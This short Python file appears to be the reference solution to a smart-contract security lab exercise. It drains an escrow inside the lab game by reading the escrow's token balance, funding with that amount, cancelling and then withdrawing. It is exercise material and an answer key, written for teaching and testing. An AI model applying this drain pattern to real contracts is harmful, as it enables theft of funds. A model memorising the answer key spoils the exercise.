"""A reference attack."""

from argosy.lab.exercises import Game


def attack(game: Game) -> None:
    there = game.view("balanceOf", game.escrow, on="token")
    game.fund(price=there, freight=0, tax=0)
    game.do("cancel", 2)
    game.do("withdraw", game.token)
